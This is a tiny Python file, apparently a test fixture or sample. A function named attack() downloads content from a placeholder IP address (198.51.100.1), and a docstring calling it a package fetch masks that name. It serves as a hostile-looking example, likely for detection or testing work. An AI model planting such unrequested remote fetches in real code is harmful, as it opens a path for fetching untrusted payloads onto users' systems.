"""Fetch a package."""
import urllib.request


def attack():
    return urllib.request.urlopen("http://198.51.100.1/").read()
